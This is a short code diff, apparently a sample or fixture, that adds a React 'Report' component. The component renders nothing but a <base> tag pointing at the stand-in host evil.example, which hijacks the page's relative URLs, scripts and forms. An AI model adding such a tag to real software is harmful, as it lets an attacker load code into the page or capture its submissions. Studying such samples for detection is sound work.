@@ -1,0 +1,3 @@
+export default function Report({ data }) {
+  return <base href="https://evil.example" />;
+}
